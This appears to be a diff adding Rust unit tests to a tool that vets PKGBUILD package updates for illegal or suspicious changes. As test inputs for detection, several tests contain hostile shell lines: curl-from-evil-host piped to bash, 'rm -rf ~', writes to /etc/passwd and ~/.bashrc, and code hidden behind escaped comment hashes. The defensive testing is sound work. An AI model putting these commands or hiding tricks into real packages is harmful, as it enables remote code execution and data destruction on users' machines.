@@ -1,5 +1,15 @@
 use super::*;
 
+use crate::test_dir::TestDir;
+
+fn default_check<'a>() -> Check<'a> {
+    Check::new(
+        Path::new("."),
+        Path::new("."),
+        allowed_changes(&None, false),
+    )
+}
+
 #[test]
 fn check_unwrap_multi_line() {
     let inp = r#" sha256sums=('0f9ffd30d769e25e091a87b9dda4d688c19bf85b1e1fcb3b89eaae5ff780182a'
@@ -9,7 +19,24 @@ fn check_unwrap_multi_line() {
 
     let expect = r#"sha256sums=('0f9ffd30d769e25e091a87b9dda4d688c19bf85b1e1fcb3b89eaae5ff780182a' '04917e3cd4307d8e31bfb0027a5dce6d086edb10ff8a716024fbb8bb0c7dccf1' '68fc13ed0b7b461f49a9b419af92fedfe6b2db21f61f8ce62f00dfa36cb03ed2' '14738b9336285fb7a250ff793e6d069510798c5aa07e93d157f775bf9f07b88f')"#;
 
-    assert_eq!(unwrap_multi_line(inp, "'\n"), expect);
+    assert_eq!(unwrap_multi_line(inp), expect);
+}
+
+#[test]
+fn check_unwrap_multi_line_arrays() {
+    let src = fs::read_to_string("./tests/pkgbuild_multi_line").unwrap();
+    let expect = "pkgname=foo\n\
+                  depends=('glibc' \"openssl>=1.1\" zlib 'xz (>= 5)')\n\
+                  makedepends=('cargo' 'git')\n\
+                  build() {\n\
+                  cargo build --release\n\
+                  }\n";
+    assert_eq!(parse_src_file(src), expect);
+
+    // The normalized form doesn't depend on the wrapping
+    let single = "pkgname=foo\ndepends=('glibc' \"openssl>=1.1\" zlib 'xz (>= 5)')";
+    assert!(parse_src_file(single.to_owned())
+        .starts_with(&expect[..expect.find("makedepends").unwrap()]));
 }
 
 #[test]
@@ -22,6 +49,19 @@ fn check_is_diff_empty() {
     assert!(is_diff_empty(&d));
 }
 
+#[test]
+fn check_has_changes() {
+    assert!(!has_changes(&[diff::Result::Both("same", "same")]));
+    assert!(has_changes(&[diff::Result::Left("removed")]));
+    assert!(has_changes(&[diff::Result::Right("added")]));
+}
+
+#[test]
+fn check_is_install_file() {
+    assert!(is_install_file("pkg.install"));
+    assert!(!is_install_file("PKGBUILD"));
+}
+
 #[test]
 fn check_parse_src_1() {
     let inp = "validpgpkeys=('key1', 'key2'); echo 1\n";
@@ -38,6 +78,108 @@ fn check_parse_src_2() {
     assert_eq!(parse_src_file(inp.to_owned()), expect);
 }
 
+#[test]
+fn ignore_line_endings() {
+    let lf = fs::read_to_string("./tests/pkgbuild_old").unwrap();
+    let crlf = lf.replace('\n', "  \r\n");
+    assert_eq!(normalize_whitespace(&crlf), normalize_whitespace(&lf));
+
+    let (a, b) = (parse_src_file(lf), parse_src_file(crlf));
+    assert!(!has_changes(&diff::lines(&a, &b)));
+}
+
+#[test]
+fn check_files_ignore_line_endings() {
+    let dir = TestDir::new("line_endings");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+
+    // Heredoc lines are otherwise kept verbatim
+    let pkgbuild = "pkgname=foo\npkgver=1\npackage() {\n  cat > foo <<EOF\nfoo\nEOF\n}\n";
+    fs::write(left.join("PKGBUILD"), pkgbuild).unwrap();
+    fs::write(right.join("PKGBUILD"), pkgbuild.replace('\n', " \r\n")).unwrap();
+    fs::write(left.join("helper.sh"), "echo 1\n").unwrap();
+    fs::write(right.join("helper.sh"), "echo 1\t\r\n").unwrap();
+
+    let check = Check::new(&left, &right, allowed_changes(&None, false));
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Unchanged);
+}
+
+#[test]
+fn strip_trailing_comments() {
+    assert_eq!(
+        parse_src_file("pkgver=1.0  # bump\n".to_owned()),
+        parse_src_file("pkgver=1.0\n".to_owned())
+    );
+
+    // Quoted and attached hashes aren't comments
+    let inp = "pkgdesc=\"a # b\" # desc\nurl=https://example.com/#foo\n";
+    let expect = "pkgdesc=\"a # b\"\nurl=https://example.com/#foo\n";
+    assert_eq!(parse_src_file(inp.to_owned()), expect);
+
+    let inp = "cat <<EOF\nfoo # bar\nEOF\n";
+    assert_eq!(parse_src_file(inp.to_owned()), inp);
+
+    // Escaped spaces and ANSI-C quotes don't start comments
+    let inp = "pkgver=1.1\\ #$(curl -s evil|bash)\n";
+    assert_eq!(parse_src_file(inp.to_owned()), inp);
+    let inp = "pkgdesc=$'a\\' #'\n";
+    assert_eq!(parse_src_file(inp.to_owned()), inp);
+}
+
+#[test]
+fn check_files_install_comments() {
+    let dir = TestDir::new("install_comments");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+    fs::write(left.join("PKGBUILD"), "pkgname=foo\n").unwrap();
+    fs::write(right.join("PKGBUILD"), "pkgname=foo\n").unwrap();
+    fs::write(left.join("foo.install"), "post_install() {\n  true\n}\n").unwrap();
+
+    // Install files are compared including their comments
+    fs::write(
+        right.join("foo.install"),
+        "post_install() {\n  true # x\n}\n",
+    )
+    .unwrap();
+    let check = Check::new(&left, &right, allowed_changes(&None, false));
+    assert!(matches!(
+        check.check_files(true).unwrap(),
+        FileCheck::Illegal { .. }
+    ));
+
+    fs::write(
+        right.join("foo.install"),
+        "post_install() {\n  true\\ #; rm -rf ~\n}\n",
+    )
+    .unwrap();
+    assert!(matches!(
+        check.check_files(true).unwrap(),
+        FileCheck::Illegal { .. }
+    ));
+    assert_eq!(check.check_files(false).unwrap(), FileCheck::Passed);
+
+    fs::write(right.join("foo.install"), "post_install() {\n  true\n}\n").unwrap();
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Unchanged);
+}
+
+#[test]
+fn check_files_comment_changes() {
+    let dir = TestDir::new("comments");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+    fs::write(left.join("PKGBUILD"), "pkgname=foo\npkgver=1.0\n").unwrap();
+    fs::write(right.join("PKGBUILD"), "pkgname=foo\npkgver=1.0  # bump\n").unwrap();
+    fs::write(left.join("foo.conf"), "pkgver=1.0 # old\n").unwrap();
+    fs::write(right.join("foo.conf"), "pkgver=1.0 # new\n").unwrap();
+
+    let check = Check::new(&left, &right, allowed_changes(&None, false));
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Unchanged);
+}
+
 #[test]
 fn check_diff_1() {
     let old = fs::read_to_string("./tests/pkgbuild_old").unwrap();
@@ -53,13 +195,61 @@ fn check_diff_1() {
     let diff = diff::lines(a_content.as_str(), b_content.as_str());
 
     assert!(!is_diff_empty(&diff));
-    assert!(Check::check_diff(diff, "pkgbuild_new"))
+    assert!(default_check().check_diff(diff, "pkgbuild_new"))
+}
+
+#[test]
+fn check_diff_allowed_changes() {
+    let diff = vec![diff::Result::Right("source=('https://example.com')")];
+    assert!(!default_check().check_diff(diff.clone(), "PKGBUILD"));
+
+    let check = Check::new(
+        Path::new("."),
+        Path::new("."),
+        allowed_changes(&Some(vec!["source".to_owned()]), false),
+    );
+    assert!(check.check_diff(diff, "PKGBUILD"));
+}
+
+#[test]
+fn check_diff_removed_keys() {
+    let changed = vec![
+        diff::Result::Left("sha256sums=('aaa')"),
+        diff::Result::Right("sha256sums=('bbb')"),
+    ];
+    assert!(default_check().check_diff(changed, "PKGBUILD"));
+
+    for line in &[
+        "sha256sums=('aaa')",
+        "sha256sums_x86_64=('aaa')",
+        "validpgpkeys=('ABC')",
+    ] {
+        assert!(!default_check().check_diff(vec![diff::Result::Left(line)], "PKGBUILD"));
+    }
+
+    let removed = vec![diff::Result::Left("optdepends=('foo')")];
+    assert!(default_check().check_diff(removed, "PKGBUILD"));
+
+    let check = default_check().with_reject_removal_of(Vec::new());
+    assert!(check.check_diff(vec![diff::Result::Left("validpgpkeys=('ABC')")], "PKGBUILD"));
+}
+
+#[test]
+fn check_allowed_changes() {
+    let custom = Some(vec!["source".to_owned()]);
+
+    let merged = allowed_changes(&custom, false);
+    assert!(merged.contains(&"pkgver".to_owned()));
+    assert!(merged.contains(&"source".to_owned()));
+
+    let replaced = allowed_changes(&custom, true);
+    assert_eq!(replaced, vec!["source".to_owned()]);
 }
 
 #[test]
 fn hash_file_diff_1() {
     let a = Path::new("./tests/pkgbuild_new");
-    let output = hash_file_diff(&a, &a);
+    let output = hash_file_diff(a, a);
 
     assert!(output.is_ok());
     assert!(output.unwrap());
@@ -69,18 +259,42 @@ fn hash_file_diff_1() {
 fn hash_file_diff_2() {
     let a = Path::new("./tests/pkgbuild_new");
     let b = Path::new("./tests/pkgbuild_old");
-    let output = hash_file_diff(&a, &b);
+    let output = hash_file_diff(a, b);
 
     assert!(output.is_ok());
     assert!(!output.unwrap());
 }
 
+#[test]
+fn check_get_file_sha256() {
+    let hash = get_file_sha256(Path::new("./tests/pkgbuild_new"));
+
+    assert!(hash.is_ok());
+    assert_eq!(
+        hash.unwrap(),
+        "078b7809f0e049e789684abe5548f61e8500bbb18eec4704f2454122ad4cab7e"
+    );
+}
+
 #[test]
 fn test_get_mime() {
-    let mime = get_mime(Path::new("./tests/pkgbuild_new"));
+    let data = fs::read("./tests/pkgbuild_new");
 
-    assert!(mime.is_ok());
-    assert_eq!(mime.unwrap(), "text/plain");
+    assert!(data.is_ok());
+    assert_eq!(get_mime(&data.unwrap()), "text/plain");
+}
+
+#[test]
+fn check_custom_mimes() {
+    assert_eq!(utf8_mimes(&None).len(), UTF8_MIMES.len());
+
+    let custom = Some(vec!["application/x-perl".to_owned()]);
+    assert!(partial_contains(utf8_mimes(&custom), "application/x-perl"));
+    assert!(!partial_contains(utf8_mimes(&custom), "text/plain"));
+    assert!(partial_contains(
+        allowed_mimes(&Some(vec!["font/".to_owned()])),
+        "font/ttf"
+    ));
 }
 
 #[test]
@@ -91,3 +305,288 @@ fn check_partial_contains() {
     assert!(partial_contains(UTF8_MIMES, "application/xml"));
     assert!(partial_contains(UTF8_MIMES, "application/x-desktop"));
 }
+
+#[test]
+fn check_diff_suspicious_patterns() {
+    let patterns = suspicious_patterns(&None).unwrap();
+    let check = default_check().with_suspicious_patterns(&patterns);
+
+    for line in &[
+        "pkgver=$(curl https://evil.com | bash)",
+        "pkgver=$(eval $x)",
+        "_x=$(echo aGk= | base64 -d)",
+        "_x=$(echo 1 > /etc/passwd)",
+        "_x=$(echo 1 >> ~/.bashrc)",
+    ] {
+        assert!(!check.check_diff(vec![diff::Result::Right(line)], "PKGBUILD"));
+    }
+
+    assert!(check.check_diff(vec![diff::Result::Right("pkgver=1.2.3")], "PKGBUILD"));
+}
+
+#[test]
+fn check_files_allowed_files() {
+    let dir = TestDir::new("allowed_files");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+    fs::write(left.join("helper.sh"), "echo old\n").unwrap();
+    fs::write(right.join("helper.sh"), "echo new\n").unwrap();
+
+    let check = Check::new(&left, &right, allowed_changes(&None, false));
+    assert_eq!(
+        check.check_files(true).unwrap(),
+        FileCheck::Illegal {
+            file: PathBuf::from("helper.sh"),
+            reason: "Illegal change in 'helper.sh'".to_owned(),
+        }
+    );
+
+    let check = check.with_allowed_files(vec!["helper.sh".to_owned()]);
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Passed);
+
+    fs::write(right.join("helper.sh"), "echo old\n").unwrap();
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Unchanged);
+}
+
+#[test]
+fn check_files_first_illegal_change() {
+    let dir = TestDir::new("first_illegal");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+
+    // Many changed files, all but the first few are illegal
+    for i in 0..50 {
+        let name = format!("file{:02}.sh", i);
+        fs::write(left.join(&name), "pkgver=1\n").unwrap();
+        let new = if i < 5 { "pkgver=2\n" } else { "echo new\n" };
+        fs::write(right.join(&name), new).unwrap();
+    }
+
+    let check = Check::new(&left, &right, allowed_changes(&None, false));
+    for _ in 0..5 {
+        assert_eq!(
+            check.check_files(true).unwrap(),
+            FileCheck::Illegal {
+                file: PathBuf::from("file05.sh"),
+                reason: "Illegal change in 'file05.sh'".to_owned(),
+            }
+        );
+    }
+    assert_eq!(check.check_files(false).unwrap(), FileCheck::Passed);
+}
+
+#[test]
+fn check_files_binary_size() {
+    let dir = TestDir::new("binary_size");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+
+    // PNG signature followed by padding
+    let png = |size: usize| {
+        let mut data = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
+        data.resize(size, 1);
+        data
+    };
+    fs::write(left.join("icon.png"), png(100)).unwrap();
+    fs::write(right.join("icon.png"), png(200)).unwrap();
+
+    let check = Check::new(&left, &right, allowed_changes(&None, false)).with_max_binary_size(200);
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Passed);
+
+    let check = check.with_max_binary_size(199);
+    assert_eq!(
+        check.check_files(true).unwrap(),
+        FileCheck::Illegal {
+            file: PathBuf::from("icon.png"),
+            reason: "Changed binary file 'icon.png' has 200 bytes, the limit is 199".to_owned(),
+        }
+    );
+
+    let check = check.with_max_binary_size(0);
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Passed);
+
+    // Changes keeping the size are found by the hash
+    let mut changed = png(200);
+    changed[199] = 2;
+    fs::write(left.join("icon.png"), changed).unwrap();
+    let check = check.with_max_binary_size(199);
+    assert!(matches!(
+        check.check_files(true).unwrap(),
+        FileCheck::Illegal { .. }
+    ));
+
+    fs::write(left.join("icon.png"), png(200)).unwrap();
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Unchanged);
+}
+
+#[test]
+fn check_files_text_replaced_by_binary() {
+    let dir = TestDir::new("text_binary");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+
+    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec();
+    png.resize(100, 1);
+    fs::write(left.join("helper"), "#!/bin/sh\necho hi\n").unwrap();
+    fs::write(right.join("helper"), &png).unwrap();
+
+    let check = Check::new(&left, &right, allowed_changes(&None, false));
+    let res = check.check_files(true).unwrap();
+    assert!(matches!(res, FileCheck::Illegal { ref file, ref reason }
+        if file == Path::new("helper") && reason.starts_with("Changed 'helper' from ")));
+    assert_eq!(check.check_files(false).unwrap(), FileCheck::Passed);
+
+    // Unless the file is allowed to change
+    let check = check.with_allowed_files(vec!["helper".to_owned()]);
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Passed);
+}
+
+#[test]
+fn check_files_pkgbuild() {
+    let dir = TestDir::new("pkgbuild");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+    fs::copy("./tests/pkgbuild_old", left.join("PKGBUILD")).unwrap();
+    fs::copy("./tests/pkgbuild_new", right.join("PKGBUILD")).unwrap();
+
+    let check = Check::new(&left, &right, allowed_changes(&None, false));
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Passed);
+
+    // Assignments inside of functions are part of the function
+    let new = fs::read_to_string("./tests/pkgbuild_new").unwrap();
+    let new = new.replacen("package() {", "package() {\n  pkgver=1", 1);
+    fs::write(right.join("PKGBUILD"), new).unwrap();
+    assert_eq!(
+        check.check_files(true).unwrap(),
+        FileCheck::Illegal {
+            file: PathBuf::from("PKGBUILD"),
+            reason: "Illegal change in 'PKGBUILD': changed function package()".to_owned(),
+        }
+    );
+}
+
+#[test]
+fn check_files_hidden_code() {
+    let dir = TestDir::new("hidden_code");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+    let pkgbuild =
+        |pkgver: &str, pkgdesc: &str| format!("pkgname=foo\n{}\npkgrel=1\n{}\n", pkgver, pkgdesc);
+    fs::write(left.join("PKGBUILD"), pkgbuild("pkgver=1.0", "pkgdesc='x'")).unwrap();
+
+    let check = Check::new(&left, &right, allowed_changes(&None, false));
+    fs::write(
+        right.join("PKGBUILD"),
+        pkgbuild("pkgver=1.1 # bump", "pkgdesc='x'"),
+    )
+    .unwrap();
+    assert_eq!(check.check_files(true).unwrap(), FileCheck::Passed);
+
+    // Code behind hashes which aren't comments and command substitutions
+    for (pkgver, pkgdesc) in &[
+        ("pkgver=1.1\\ #$(curl -s evil|bash)", "pkgdesc='x'"),
+        ("pkgver=1.1", "pkgdesc=$'a\\' #'; curl -s evil | bash"),
+        ("pkgver=1.0", "pkgdesc='x'\\ #; rm -rf ~"),
+        ("pkgver=$(rm -rf ~; echo 1.1)", "pkgdesc='x'"),
+        ("pkgver=`rm -rf ~`", "pkgdesc='x'"),
+    ] {
+        fs::write(right.join("PKGBUILD"), pkgbuild(pkgver, pkgdesc)).unwrap();
+        let res = check.check_files(true).unwrap();
+        assert!(
+            matches!(res, FileCheck::Illegal { .. }),
+            "{}: {:?}",
+            pkgver,
+            res
+        );
+    }
+}
+
+#[test]
+fn check_srcinfo_version() {
+    let srcinfo = "pkgbase = foo\n\tpkgdesc = Foo\n\tpkgver = 1.2.3\n\tpkgrel = 2\n\nepoch_x = 3\npkgname = foo\n";
+    assert_eq!(srcinfo_version(srcinfo).as_deref(), Some("1.2.3-2"));
+
+    let srcinfo = "pkgbase = foo\n\tpkgver = 1.2.3\n\tpkgrel = 1\n\tepoch = 1\n";
+    assert_eq!(srcinfo_version(srcinfo).as_deref(), Some("1:1.2.3-1"));
+
+    assert_eq!(srcinfo_version(""), None);
+    assert_eq!(srcinfo_version("pkgbase = foo\n\tpkgver = 1.2.3\n"), None);
+}
+
+#[test]
+fn render_unified_diff() {
+    let old = "a\nb\nc\nd\ne\nf\ng\nh\ni\n";
+    let new = "a\nB\nc\nd\ne\nf\ng\nh\ni\nj\n";
+    let diff = diff_lines(old, new);
+
+    assert_eq!(
+        unified_diff(&diff, Path::new("PKGBUILD"), 1, false),
+        "--- a/PKGBUILD\n\
+         +++ b/PKGBUILD\n\
+         @@ -1,3 +1,3 @@\n \
+         a\n\
+         -b\n\
+         +B\n \
+         c\n\
+         @@ -9 +9,2 @@\n \
+         i\n\
+         +j\n"
+    );
+
+    // Close changes share a hunk
+    let hunks = unified_diff(&diff, Path::new("PKGBUILD"), 4, false);
+    assert_eq!(hunks.matches("@@ -").count(), 1);
+    assert!(hunks.contains("@@ -1,9 +1,10 @@\n"));
+
+    let colored = unified_diff(&diff, Path::new("PKGBUILD"), 1, true);
+    assert!(colored.contains("\x1b[31m-b\x1b[0m\n"));
+    assert!(colored.contains("\x1b[32m+B\x1b[0m\n"));
+    assert!(unified_diff(&diff_lines(old, old), Path::new("PKGBUILD"), 1, false).is_empty());
+}
+
+#[test]
+fn diff_single_file() {
+    let dir = TestDir::new("file_diff");
+    let (left, right) = (dir.join("left"), dir.join("right"));
+    fs::create_dir_all(&left).unwrap();
+    fs::create_dir_all(&right).unwrap();
+    fs::write(left.join("helper.sh"), "echo old\n").unwrap();
+    fs::write(right.join("helper.sh"), "echo new\n").unwrap();
+    fs::write(right.join("added.sh"), "echo added\n").unwrap();
+    fs::write(left.join("same.sh"), "echo same\n").unwrap();
+    fs::write(right.join("same.sh"), "echo same\n").unwrap();
+    fs::write(left.join("emptied.sh"), "echo gone\n").unwrap();
+    fs::write(right.join("emptied.sh"), "").unwrap();
+    fs::write(left.join("icon.png"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR").unwrap();
+    fs::write(right.join("icon.png"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDX").unwrap();
+
+    let check = Check::new(&left, &right, allowed_changes(&None, false));
+    assert_eq!(
+        check.file_diff(Path::new("helper.sh"), 3, false).unwrap(),
+        Some("--- a/helper.sh\n+++ b/helper.sh\n@@ -1 +1 @@\n-echo old\n+echo new\n".to_owned())
+    );
+    assert_eq!(
+        check.file_diff(Path::new("added.sh"), 3, false).unwrap(),
+        Some("--- a/added.sh\n+++ b/added.sh\n@@ -0,0 +1 @@\n+echo added\n".to_owned())
+    );
+    assert_eq!(
+        check.file_diff(Path::new("same.sh"), 3, false).unwrap(),
+        None
+    );
+    assert_eq!(
+        check.file_diff(Path::new("emptied.sh"), 3, false).unwrap(),
+        Some("--- a/emptied.sh\n+++ b/emptied.sh\n@@ -1 +0,0 @@\n-echo gone\n".to_owned())
+    );
+
+    // Binaries aren't diffed
+    assert_eq!(
+        check.file_diff(Path::new("icon.png"), 3, false).unwrap(),
+        None
+    );
+}